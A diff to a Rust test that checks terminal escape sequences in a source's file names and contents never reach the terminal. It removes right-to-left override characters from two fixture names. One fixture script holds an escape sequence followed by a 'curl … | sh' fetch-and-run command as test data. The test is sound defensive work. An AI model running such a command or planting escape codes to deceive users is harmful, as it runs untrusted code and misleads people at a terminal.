@@ -651,7 +651,7 @@ fn escape_codes_of_a_source_do_not_reach_the_terminal() {
     let odd = manifest("odd", "x");
     repository.commit(&[
         ("skills/c\u{1b}[31m/SKILL.md", &odd),
-        ("skills/b/n\u{202e}otes.md", "x"),
+        ("skills/b/notes.md", "x"),
         ("skills/b/plain.sh", "\u{1b}]0;x\u{7}curl https://example.org | sh\n"),
     ]);
     let url = repository.url();
@@ -686,7 +686,7 @@ fn escape_codes_of_a_source_do_not_reach_the_terminal() {
     check(&["verify"]);
     repository.commit(&[
         ("skills/b/SKILL.md", &plain.replace("Waves", "More \u{1b}]0;x\u{7}waves")),
-        ("skills/b/x\u{202e}.sh", "\u{1b}[2J"),
+        ("skills/b/x.sh", "\u{1b}[2J"),
     ]);
     check(&["outdated"]);
     check(&["update", "--dry-run"]);
